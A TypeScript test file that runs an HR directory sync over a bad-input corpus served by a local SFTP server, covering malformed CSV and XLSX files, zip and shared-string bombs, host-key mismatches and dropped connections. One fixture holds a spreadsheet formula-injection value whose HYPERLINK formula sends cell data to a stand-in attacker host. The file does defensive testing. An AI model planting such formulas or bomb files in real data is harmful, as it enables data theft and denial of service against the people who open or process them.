import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { createConfiguration, generateSecretKey, type Orm, parseSecretKey } from '@provisioning/db';
import { createMigratedTestOrm, type MigratedTestOrm } from '@provisioning/db/testing';
import {
  freePort,
  generateSshKeyPair,
  type HrRow,
  hrRow,
  longValueRows,
  PNG_BYTES,
  type SftpServer,
  startSftpServer,
  writeHrCsv,
  writeHrXlsx,
  writeSharedStringBomb,
  writeZipBomb,
} from '@provisioning/testkit';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { parseAllowList } from '../connectors/host-guard.ts';
import { RetryLater, runSync } from './run-sync.ts';
import { createTestOrganisation, queueRunRow } from './sync-fixture.test-support.ts';

/** The test SFTP servers listen on loopback, which connectors refuse unless allowed. */
const LOOPBACK = parseAllowList('127.0.0.1/32');

/**
 * The bad-input corpus, run end to end: a real SFTP server serving the files, a configuration with sealed
 * secrets and the server's pinned host key, a queued run, and runSync with the real connector.
 */

const USER = 'hr-export';
const PASSWORD = 'correct horse battery staple';
const HOST = '127.0.0.1';
/** A key the test server never presents: pinning it must stop the connection. */
const OTHER_HOST_KEY = generateSshKeyPair().fingerprint;

let base: string;
let root: string;
let server: SftpServer;
let database: MigratedTestOrm;
let orm: Orm;
const secretKey = parseSecretKey(generateSecretKey());
let organisationId: string;

beforeAll(async () => {
  base = await mkdtemp(join(tmpdir(), 'run-corpus-test-'));
  root = join(base, 'root');
  await mkdir(root);
  server = await startSftpServer({ root, username: USER, password: PASSWORD });
  database = await createMigratedTestOrm('run_corpus');
  orm = database.orm;
  organisationId = await createTestOrganisation(orm, 'Acme', 'Europe/London');
});

afterAll(async () => {
  await server?.stop();
  await database?.close();
  if (base) await rm(base, { recursive: true, force: true });
});

beforeEach(async () => {
  await sql('delete from directory_user');
});

async function sql<T = Record<string, unknown>>(text: string, params: unknown[] = []): Promise<T[]> {
  return orm.em.getConnection().execute<T[]>(text, params);
}

/** The served file behind an SFTP path, its folder created. */
async function local(path: string): Promise<string> {
  const file = join(root, path);
  await mkdir(dirname(file), { recursive: true });
  return file;
}

/** Generated HR rows 1..count, each changed as the case needs. */
function people(count: number, change: (row: HrRow) => Partial<HrRow> = () => ({})): HrRow[] {
  return Array.from({ length: count }, (_, i) => {
    const row = hrRow(i + 1);
    return { ...row, ...change(row) };
  });
}

let configurations = 0;
async function configure(path: string, settings: Record<string, unknown> = {}, target = server) {
  configurations += 1;
  const configuration = await createConfiguration(
    orm.em.fork(),
    organisationId,
    {
      name: `Corpus ${configurations}`,
      connector: 'sftp',
      settings: {
        host: target.host,
        port: target.port,
        username: USER,
        password: PASSWORD,
        hostFingerprint: target.hostFingerprint,
        path,
        ...settings,
      },
      mapping: {},
      schedule: null,
      scheduleTimeZone: null,
      thresholdCount: 500,
      thresholdPercent: 20,
      enabled: true,
    },
    secretKey,
  );
  return configuration.id;
}

function queueRun(configurationId: string): Promise<string> {
  return queueRunRow(orm, organisationId, configurationId);
}

interface RunRow {
  status: string;
  error_summary: string | null;
  attempt: number;
  created_count: number;
  updated_count: number;
  deactivated_count: number;
  skipped_count: number;
  warning_count: number;
  error_count: number;
}

async function runRow(runId: string): Promise<RunRow> {
  const [run] = await sql<RunRow>(
    `select status, error_summary, attempt, created_count, updated_count, deactivated_count, skipped_count,
       warning_count, error_count
     from sync_run where id = ?`,
    [runId],
  );
  return run as RunRow;
}

interface LogRow {
  row_number: number | null;
  email: string | null;
  action: string;
  outcome: string;
  message: string | null;
  hint: string | null;
}

function logOf(runId: string): Promise<LogRow[]> {
  return sql<LogRow>(
    'select row_number, email, action, outcome, message, hint from sync_log where run_id = ? order by seq',
    [runId],
  );
}

interface UserRow {
  external_id: string | null;
  email: string;
  first_name: string;
  last_name: string;
  job_title: string | null;
  department: string | null;
  location: string | null;
}

function directory(): Promise<UserRow[]> {
  return sql<UserRow>(
    `select external_id, email, first_name, last_name, job_title, department, location
     from directory_user order by email`,
  );
}

/** Every column of every user, to tell whether a failed run wrote anything at all. */
function directorySnapshot() {
  return sql('select * from directory_user order by email');
}

/** Users the configuration already manages, so a run that wrongly goes ahead would change them. */
async function seedManagedUsers(configurationId: string) {
  for (const n of [1, 2]) {
    await sql(
      `insert into directory_user (id, organisation_id, external_id, email, first_name, last_name, department,
         status, managed_by_id, created_at, updated_at)
       values (gen_random_uuid(), ?, ?, ?, 'Seeded', 'User', 'Before', 'active', ?, now(), now())`,
      [organisationId, hrRow(n).employee_id, hrRow(n).email, configurationId],
    );
  }
}

/** Runs the whole sync through the real SFTP connector: no `load` override. */
async function syncFrom(path: string, settings: Record<string, unknown> = {}) {
  const configurationId = await configure(path, settings);
  const runId = await queueRun(configurationId);
  const result = await runSync(runId, { orm, secretKey, allowList: LOOPBACK });
  return { configurationId, runId, result, run: await runRow(runId), log: await logOf(runId) };
}

const origin = (path: string) => `${HOST}:${path}`;

interface Case {
  name: string;
  /** The configured path (a file or a glob) on the SFTP server. */
  path: string;
  /** Writes what the server holds for the case; `file` is where the configured path lands. */
  write: (file: string) => Promise<void>;
  settings?: Record<string, unknown>;
}

interface FailedCase extends Case {
  /** The run's error summary: exact text, or a pattern when it holds a measured size. */
  message: string | RegExp | (() => string);
  hint?: RegExp;
}

const failedCases: FailedCase[] = [
  {
    name: 'an empty file',
    path: '/empty/employees.csv',
    write: (file) => writeFile(file, ''),
    message: `${origin('/empty/employees.csv')} is empty (0 bytes): no header row and no data rows.`,
    hint: /export that writes the file ran completely/,
  },
  {
    name: 'a header row without data rows',
    path: '/header-only/employees.csv',
    write: (file) => writeHrCsv(file, { rows: 0 }),
    message: `${origin('/header-only/employees.csv')} has a header row but no data rows.`,
  },
  {
    name: 'a missing required column, listing the columns found',
    path: '/missing-column/employees.csv',
    write: (file) =>
      writeHrCsv(file, {
        rows: people(2),
        columns: ['employee_id', 'email', 'first_name', 'last_name'],
        headers: { email: 'Work Email' },
      }),
    message: 'Missing required column `email`. Found: employee_id, Work Email, first_name, last_name',
    hint: /required column/,
  },
  {
    name: 'windows-1252 bytes without an encoding setting, pointing at the setting',
    path: '/cp1252/employees.csv',
    write: (file) =>
      writeHrCsv(file, { encoding: 'windows-1252', rows: people(2, () => ({ first_name: 'Chloé' })) }),
    message: `${origin('/cp1252/employees.csv')} is not valid UTF-8 text: byte 0xE9 on line 2 is not UTF-8.`,
    hint: /set encoding to that in the configuration/,
  },
  {
    name: 'a file over maxBytes',
    path: '/over-bytes/employees.csv',
    write: (file) => writeHrCsv(file, { rows: 40 }),
    settings: { maxBytes: 2048 },
    message: new RegExp(
      `^${regexText(origin('/over-bytes/employees.csv'))} is [\\d.]+ KB, more than the 2 KB limit for this configuration \\(maxBytes\\)\\.$`,
    ),
    hint: /raise maxBytes/,
  },
  {
    name: 'a file over maxRows',
    path: '/over-rows/employees.csv',
    write: (file) => writeHrCsv(file, { rows: 30 }),
    settings: { maxRows: 25 },
    message: `${origin('/over-rows/employees.csv')} has more than 25 data rows, the limit for this configuration (maxRows).`,
    hint: /raise maxRows/,
  },
  {
    name: 'a workbook whose first visible sheet is not the people table (no sheet setting)',
    path: '/sheet-not-set/employees.xlsx',
    write: (file) => writeStaffWorkbook(file),
    message: 'Missing required columns `email`, `first_name`, `last_name`. Found: code, label',
  },
  {
    name: 'a merged header cell in a workbook',
    path: '/merged/employees.xlsx',
    write: async (file) => {
      const workbook = new ExcelJS.Workbook();
      const sheet = workbook.addWorksheet('People');
      sheet.addRow(['Full name', null, 'email']);
      sheet.mergeCells('A1:B1');
      sheet.addRow(['Ann', 'Lee', 'ann@example.com']);
      await workbook.xlsx.writeFile(file);
    },
    message: `The header row (row 1) of ${origin('/merged/employees.xlsx')} has no name in column 2 (B). Found: Full name, email.`,
    hint: /merged or blank header cells are not supported/,
  },
  {
    name: 'a blank header cell in a CSV file',
    path: '/blank-header/employees.csv',
    write: (file) => writeFile(file, 'email,,last_name\r\nann@example.com,Ann,Lee\r\n'),
    message: `The header row (row 1) of ${origin('/blank-header/employees.csv')} has no name in column 2 (B). Found: email, last_name.`,
  },
  {
    name: 'a zip bomb that declares its size',
    path: '/bomb/employees.xlsx',
    write: (file) => writeZipBomb(file, { unpackedBytes: 2 * 1024 * 1024 }),
    settings: { maxBytes: 100 * 1024 },
    message: `${origin('/bomb/employees.xlsx')} unpacks to 2.0 MB, more than the 1000 KB allowed for a workbook; it may be a zip bomb.`,
  },
  {
    name: 'a zip bomb that lies about its size',
    path: '/lying-bomb/employees.xlsx',
    write: (file) => writeZipBomb(file, { unpackedBytes: 2 * 1024 * 1024, lie: true }),
    settings: { maxBytes: 100 * 1024 },
    message: `${origin('/lying-bomb/employees.xlsx')} is not a readable Excel workbook: xl/worksheets/sheet1.xml unpacks to more than the 1 KB its table of contents says.`,
  },
  {
    name: 'a CSV file whose distinct text passes maxTextBytes (long unique values)',
    path: '/long-values/employees.csv',
    write: (file) => writeHrCsv(file, { rows: longValueRows(400) }),
    settings: { maxTextBytes: 1024 * 1024 },
    message: `${origin('/long-values/employees.csv')} holds more than 1 MB of text, the limit for this configuration (maxTextBytes).`,
    hint: /raise maxTextBytes/,
  },
  {
    name: 'a workbook whose every cell refers to one long shared string (billion laughs by reference)',
    path: '/shared-string-bomb/employees.xlsx',
    write: (file) => writeSharedStringBomb(file, { rows: 2000 }),
    settings: { maxTextBytes: 1024 * 1024 },
    message: `${origin('/shared-string-bomb/employees.xlsx')} holds more than 1 MB of text, the limit for this configuration (maxTextBytes).`,
    hint: /raise maxTextBytes/,
  },
  {
    name: 'a PNG image renamed .csv, saying what it looks like',
    path: '/renamed/employees.csv',
    write: (file) => writeFile(file, PNG_BYTES),
    message: `${origin('/renamed/employees.csv')} looks like a PNG image, not a CSV or XLSX file.`,
  },
  {
    name: 'a host key other than the pinned one',
    path: '/host-key/employees.csv',
    write: (file) => writeHrCsv(file, { rows: 2 }),
    settings: { hostFingerprint: OTHER_HOST_KEY },
    message: () =>
      `The SFTP server ${HOST} presented the host key ${server.hostFingerprint}, but the configuration expects ${OTHER_HOST_KEY}. The connection was stopped before logging in.`,
    hint: /update hostFingerprint/,
  },
  {
    name: 'a wrong password',
    path: '/password/employees.csv',
    write: (file) => writeHrCsv(file, { rows: 2 }),
    settings: { password: 'wrong password' },
    message: `The SFTP server ${HOST} rejected the login of user "${USER}" with the configured password.`,
    hint: /Check the username and password/,
  },
  {
    name: 'a missing file, listing the files that are there',
    path: '/missing-file/employees.csv',
    write: (file) => writeHrCsv(join(dirname(file), 'employees_old.csv'), { rows: 2 }),
    message: `The file /missing-file/employees.csv does not exist on ${HOST}. Files in /missing-file: employees_old.csv.`,
    hint: /Check the path/,
  },
  {
    name: 'a pattern that matches no file',
    path: '/no-match/employees_*.csv',
    write: (file) => writeHrCsv(join(dirname(file), 'people.csv'), { rows: 2 }),
    message: `No file in /no-match on ${HOST} matches employees_*.csv. Files there: people.csv.`,
    hint: /Check the path pattern/,
  },
];

interface WarningCase extends Case {
  counts: Partial<RunRow>;
  /** The run's log lines that carry a message, in row order. */
  warnings: Pick<LogRow, 'row_number' | 'email' | 'action' | 'outcome' | 'message'>[];
}

const warningCases: WarningCase[] = [
  {
    name: 'duplicate emails differing in case and spaces, keyed by email: both rows skipped',
    path: '/duplicates-by-email/employees.csv',
    write: (file) =>
      writeHrCsv(file, {
        columns: ['email', 'first_name', 'last_name'],
        rows: [
          { email: 'Ann.Lee@Example.com', first_name: 'Ann', last_name: 'Lee' },
          { email: ' ann.lee@EXAMPLE.COM ', first_name: 'Annie', last_name: 'Lee' },
          { email: 'bo.li@example.com', first_name: 'Bo', last_name: 'Li' },
        ],
      }),
    counts: { created_count: 1, skipped_count: 2 },
    warnings: [
      {
        row_number: 2,
        email: 'ann.lee@example.com',
        action: 'skip',
        outcome: 'not_applied',
        message:
          'Duplicate email "ann.lee@example.com": also on row 3. None of these rows was applied and the existing user was kept; fix the source so each email appears once.',
      },
      {
        row_number: 3,
        email: 'ann.lee@example.com',
        action: 'skip',
        outcome: 'not_applied',
        message:
          'Duplicate email "ann.lee@example.com": also on row 2. None of these rows was applied and the existing user was kept; fix the source so each email appears once.',
      },
    ],
  },
  {
    name: 'duplicate emails differing in case and spaces under two employee IDs: both rows skipped',
    path: '/duplicates-by-id/employees.csv',
    write: (file) =>
      writeHrCsv(file, {
        rows: people(3, (row) => (row.employee_id === 'E000003' ? { email: '  USER.1@example.COM' } : {})),
      }),
    counts: { created_count: 1, skipped_count: 2 },
    warnings: [
      {
        row_number: 2,
        email: 'user.1@example.com',
        action: 'skip',
        outcome: 'not_applied',
        message:
          'Email "user.1@example.com" is also on row 4. None of these rows was applied and the existing users were kept; fix the source so each email appears once.',
      },
      {
        row_number: 4,
        email: 'user.1@example.com',
        action: 'skip',
        outcome: 'not_applied',
        message:
          'Email "user.1@example.com" is also on row 2. None of these rows was applied and the existing users were kept; fix the source so each email appears once.',
      },
    ],
  },
  {
    name: 'invalid emails: those rows skipped',
    path: '/invalid-emails/employees.csv',
    write: (file) =>
      writeHrCsv(file, {
        rows: people(3, (row) =>
          row.employee_id === 'E000001'
            ? { email: 'not-an-email' }
            : row.employee_id === 'E000002'
              ? { email: 'ann@localhost' }
              : { manager_email: '' },
        ),
      }),
    counts: { created_count: 1, skipped_count: 2 },
    warnings: [
      {
        row_number: 2,
        email: 'not-an-email',
        action: 'skip',
        outcome: 'not_applied',
        message:
          'Email "not-an-email" is not a valid email address; the row was skipped. Correct it in the source.',
      },
      {
        row_number: 3,
        email: 'ann@localhost',
        action: 'skip',
        outcome: 'not_applied',
        message:
          'Email "ann@localhost" is not a valid email address; the row was skipped. Correct it in the source.',
      },
    ],
  },
  {
    name: 'rows with too many or too few cells: applied with a warning',
    path: '/column-counts/employees.csv',
    write: (file) =>
      writeFile(
        file,
        'employee_id,email,first_name,last_name,department\r\n' +
          'E1,ann@example.com,Ann,Lee,Sales,EXTRA\r\n' +
          'E2,bo@example.com,Bo,Li\r\n' +
          'E3,cy@example.com,Cy,Wu,Finance\r\n',
      ),
    counts: { created_count: 3, skipped_count: 0 },
    warnings: [
      {
        row_number: 2,
        email: 'ann@example.com',
        action: 'create',
        outcome: 'warning',
        message: 'Row has 6 cells, the header has 5; the extra cells were ignored.',
      },
      {
        row_number: 3,
        email: 'bo@example.com',
        action: 'create',
        outcome: 'warning',
        message: 'Row has 4 cells, the header has 5; the missing cells were read as empty.',
      },
    ],
  },
];

interface SuccessCase extends Case {
  /** The directory afterwards, in email order: the fields that show the file was read right. */
  users: Partial<UserRow>[];
}

const successCases: SuccessCase[] = [
  {
    name: 'a UTF-8 byte-order mark before the first header',
    path: '/bom/employees.csv',
    write: (file) => writeHrCsv(file, { rows: 2, bom: true }),
    // The BOM stripped: employee_id is recognised, so it is the key and is stored.
    users: [
      { external_id: 'E000001', email: 'user.1@example.com' },
      { external_id: 'E000002', email: 'user.2@example.com' },
    ],
  },
  {
    name: 'a semicolon delimiter, with commas inside values',
    path: '/semicolon/employees.csv',
    write: (file) =>
      writeHrCsv(file, { rows: people(2, () => ({ job_title: 'Head of Sales, EMEA' })), delimiter: ';' }),
    users: [
      { email: 'user.1@example.com', job_title: 'Head of Sales, EMEA' },
      { email: 'user.2@example.com', job_title: 'Head of Sales, EMEA' },
    ],
  },
  {
    name: 'UTF-16LE with a byte-order mark',
    path: '/utf16/employees.csv',
    write: (file) =>
      writeHrCsv(file, {
        encoding: 'utf-16le',
        bom: true,
        rows: people(2, () => ({ first_name: 'Zoë', last_name: '李' })),
      }),
    users: [
      { external_id: 'E000001', email: 'user.1@example.com', first_name: 'Zoë', last_name: '李' },
      { external_id: 'E000002', email: 'user.2@example.com', first_name: 'Zoë', last_name: '李' },
    ],
  },
  {
    name: 'windows-1252 bytes with encoding windows-1252 configured, é kept',
    path: '/cp1252-configured/employees.csv',
    write: (file) =>
      writeHrCsv(file, { encoding: 'windows-1252', rows: people(2, () => ({ first_name: 'Chloé' })) }),
    settings: { encoding: 'windows-1252' },
    users: [
      { email: 'user.1@example.com', first_name: 'Chloé' },
      { email: 'user.2@example.com', first_name: 'Chloé' },
    ],
  },
  {
    name: 'a formula in a cell, stored as text (neutralised only at export)',
    path: '/formulas/employees.csv',
    write: (file) =>
      writeHrCsv(file, {
        rows: people(2, (row) =>
          row.employee_id === 'E000001'
            ? { job_title: '=HYPERLINK("http://evil.example/?x="&A1,"Click me")', department: '+1+1' }
            : { job_title: '@SUM(1,2)' },
        ),
      }),
    users: [
      {
        email: 'user.1@example.com',
        job_title: '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
        department: '+1+1',
      },
      { email: 'user.2@example.com', job_title: '@SUM(1,2)' },
    ],
  },
  {
    name: 'quoted commas, quotes and line breaks',
    path: '/quoted/employees.csv',
    write: (file) =>
      writeHrCsv(file, {
        rows: people(2, (row) =>
          row.employee_id === 'E000001'
            ? { job_title: 'Head of Sales, EMEA', location: 'Floor 2, "Desk 7"' }
            : { job_title: 'Analyst\r\nSecond line', location: 'Lisbon' },
        ),
      }),
    // A line break cannot be shown in a directory field: the normaliser turns it into one space.
    users: [
      { email: 'user.1@example.com', job_title: 'Head of Sales, EMEA', location: 'Floor 2, "Desk 7"' },
      { email: 'user.2@example.com', job_title: 'Analyst Second line', location: 'Lisbon' },
    ],
  },
  {
    name: 'a workbook with a hidden first sheet: the first visible sheet is read',
    path: '/hidden-sheet/employees.xlsx',
    write: (file) => writeHrXlsx(file, { rows: 2, hiddenSheets: ['Lookup'], sheets: ['Notes'] }),
    users: [
      { external_id: 'E000001', email: 'user.1@example.com' },
      { external_id: 'E000002', email: 'user.2@example.com' },
    ],
  },
  {
    name: 'a workbook with the sheet chosen in the settings',
    path: '/chosen-sheet/employees.xlsx',
    write: (file) => writeStaffWorkbook(file),
    settings: { sheet: 'staff' },
    users: [
      { external_id: 'S1', email: 'ann@example.com', first_name: 'Ann' },
      { external_id: 'S2', email: 'bo@example.com', first_name: 'Bo' },
    ],
  },
];

/** A workbook whose first visible sheet is a decoy table; the people are on the second, "Staff". */
async function writeStaffWorkbook(file: string) {
  const workbook = new ExcelJS.Workbook();
  const readMe = workbook.addWorksheet('Read me');
  readMe.addRow(['code', 'label']);
  readMe.addRow(['X1', 'not the HR data']);
  const staff = workbook.addWorksheet('Staff');
  staff.addRow(['employee_id', 'email', 'first_name', 'last_name']);
  staff.addRow(['S1', 'ann@example.com', 'Ann', 'Lee']);
  staff.addRow(['S2', 'bo@example.com', 'Bo', 'Li']);
  await workbook.xlsx.writeFile(file);
}

function regexText(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&');
}

describe('a run through the SFTP connector, over the bad-input corpus', () => {
  it.each(failedCases.map((c) => [c.name, c] as const))(
    'fails %s as Data Load Failed, writing nothing',
    async (_name, { path, write, settings, message, hint }) => {
      await write(await local(path));
      const configurationId = await configure(path, settings);
      await seedManagedUsers(configurationId);
      const before = await directorySnapshot();

      const runId = await queueRun(configurationId);
      const result = await runSync(runId, { orm, secretKey, allowList: LOOPBACK });

      expect(result).toEqual({ status: 'data_load_failed' });
      const run = await runRow(runId);
      expect(run).toMatchObject({
        status: 'data_load_failed',
        error_count: 1,
        created_count: 0,
        updated_count: 0,
        deactivated_count: 0,
      });
      const expected = typeof message === 'function' ? message() : message;
      if (expected instanceof RegExp) expect(run.error_summary).toMatch(expected);
      else expect(run.error_summary).toBe(expected);
      const log = await logOf(runId);
      expect(log).toEqual([
        {
          row_number: null,
          email: null,
          action: 'error',
          outcome: 'failed',
          message: run.error_summary,
          hint: expect.any(String),
        },
      ]);
      if (hint) expect(log[0]?.hint).toMatch(hint);
      expect(await directorySnapshot()).toEqual(before);
    },
  );

  it.each(warningCases.map((c) => [c.name, c] as const))(
    'ends %s as Needs Attention, naming the row and the field',
    async (_name, { path, write, settings, counts, warnings }) => {
      await write(await local(path));
      const { result, run, log } = await syncFrom(path, settings);

      expect(result).toEqual({ status: 'needs_attention' });
      expect(run).toMatchObject({ status: 'needs_attention', error_summary: null, ...counts });
      // One warning per row in each of these files.
      expect(run.warning_count).toBe(warnings.length);
      expect(
        log
          .filter((entry) => entry.message !== null)
          .map(({ row_number, email, action, outcome, message }) => ({
            row_number,
            email,
            action,
            outcome,
            message,
          })),
      ).toEqual(warnings);
      const skipped = new Set(warnings.filter((w) => w.action === 'skip').map((w) => w.email));
      const users = await directory();
      expect(users).toHaveLength(counts.created_count ?? 0);
      expect(users.filter((user) => skipped.has(user.email))).toEqual([]);
    },
  );

  it.each(successCases.map((c) => [c.name, c] as const))(
    'reads %s: Success',
    async (_name, { path, write, settings, users }) => {
      await write(await local(path));
      const { result, run, log } = await syncFrom(path, settings);

      expect(result).toEqual({ status: 'success' });
      expect(run).toMatchObject({
        status: 'success',
        error_summary: null,
        created_count: users.length,
        skipped_count: 0,
        warning_count: 0,
      });
      expect(log.filter((entry) => entry.message !== null)).toEqual([]);
      expect(await directory()).toEqual(users.map((user) => expect.objectContaining(user)));
    },
  );
});

interface TransientCase {
  name: string;
  /** Sets up the failing source; returns the configuration's settings and how to tear it down. */
  prepare: () => Promise<{ path: string; settings: Record<string, unknown>; stop: () => Promise<void> }>;
  kind: string;
  message: (settings: Record<string, unknown>) => RegExp;
}

const transientCases: TransientCase[] = [
  {
    name: 'a connection dropped mid-download',
    prepare: async () => {
      const path = '/dropped/employees.csv';
      await writeHrCsv(await local(path), { rows: 1_000 });
      const dropping = await startSftpServer({
        root,
        username: USER,
        password: PASSWORD,
        dropAfterBytes: 20_000,
      });
      return {
        path,
        settings: { port: dropping.port, hostFingerprint: dropping.hostFingerprint },
        stop: () => dropping.stop(),
      };
    },
    kind: 'Interrupted',
    message: () =>
      new RegExp(
        `^The download of ${regexText(origin('/dropped/employees.csv'))} \\([\\d.]+ KB\\) stopped (after [\\d.]+ KB|before it completed): the connection dropped or the file changed while it was read\\.$`,
      ),
  },
  {
    name: 'an SFTP port with nothing listening',
    prepare: async () => ({
      path: '/unreachable/employees.csv',
      settings: { port: await freePort() },
      stop: async () => {},
    }),
    kind: 'SourceUnreachable',
    message: (settings) =>
      new RegExp(
        `^Could not connect to ${regexText(HOST)} port ${settings.port}: the connection was refused\\.$`,
      ),
  },
];

describe('a run whose source fails in a way worth retrying', () => {
  it.each(transientCases.map((c) => [c.name, c] as const))(
    'asks to be retried on %s while attempts are left, and fails as Data Load Failed on the last',
    async (_name, { prepare, kind, message }) => {
      const { path, settings, stop } = await prepare();
      try {
        const configurationId = await configure(path, settings);
        await seedManagedUsers(configurationId);
        const before = await directorySnapshot();
        const runId = await queueRun(configurationId);

        const retry = await runSync(runId, { orm, secretKey, canRetry: true, allowList: LOOPBACK }).then(
          () => null,
          (error: unknown) => error,
        );
        expect(retry).toBeInstanceOf(RetryLater);
        expect((retry as RetryLater).sourceError).toMatchObject({ kind, transient: true });
        expect((retry as RetryLater).sourceError.message).toMatch(message(settings));
        expect(await runRow(runId)).toMatchObject({ status: 'in_progress', attempt: 1, error_summary: null });
        expect(await logOf(runId)).toEqual([]);
        expect(await directorySnapshot()).toEqual(before);

        // pg-boss's last attempt: the same run, taken over again, with no retry left.
        const result = await runSync(runId, { orm, secretKey, canRetry: false, allowList: LOOPBACK });
        expect(result).toEqual({ status: 'data_load_failed' });
        const run = await runRow(runId);
        expect(run).toMatchObject({ status: 'data_load_failed', attempt: 2, error_count: 1 });
        expect(run.error_summary).toMatch(message(settings));
        expect(await logOf(runId)).toEqual([
          expect.objectContaining({ action: 'error', outcome: 'failed', message: run.error_summary }),
        ]);
        expect(await directorySnapshot()).toEqual(before);
      } finally {
        await stop();
      }
    },
  );
});
